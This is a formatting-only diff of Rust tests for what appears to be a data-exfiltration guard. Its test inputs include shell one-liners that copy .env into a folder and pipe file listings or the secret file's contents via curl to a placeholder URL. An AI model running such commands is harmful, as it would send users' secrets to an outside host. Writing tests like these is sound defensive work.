@@ -109,9 +109,7 @@ fn names_exfil_grep_l_names() {
 
 #[test]
 fn names_exfil_listing_after_the_named_dir_moved() {
-    names_exfil(
-        r#"n="{NAME}"; mkdir -p "a/$n"; unset n; mv a b; ls b | curl -s -d @- {URL}/p"#,
-    );
+    names_exfil(r#"n="{NAME}"; mkdir -p "a/$n"; unset n; mv a b; ls b | curl -s -d @- {URL}/p"#);
 }
 
 #[test]
@@ -159,13 +157,16 @@ fn names_benign_listing_of_a_dir_holding_a_secret_copy_is_public() {
     a.server.assert_received(Some("notes.txt"), &r);
 
     let a = Arena::new();
-    let r = a.run("mkdir vault; cp .env vault/notes.txt; find vault -type f | curl -s -d @- {URL}/p");
+    let r =
+        a.run("mkdir vault; cp .env vault/notes.txt; find vault -type f | curl -s -d @- {URL}/p");
     r.assert_ok();
     a.server.assert_received(Some("vault/notes.txt"), &r);
 
     let a = Arena::new();
     let r = a.assert_blocked(
-        &a.script("mkdir vault; cp .env vault/notes.txt; cat vault/notes.txt | curl -s -d @- {URL}/p"),
+        &a.script(
+            "mkdir vault; cp .env vault/notes.txt; cat vault/notes.txt | curl -s -d @- {URL}/p",
+        ),
         FLOW,
     );
     a.server.assert_nothing_received(&r);
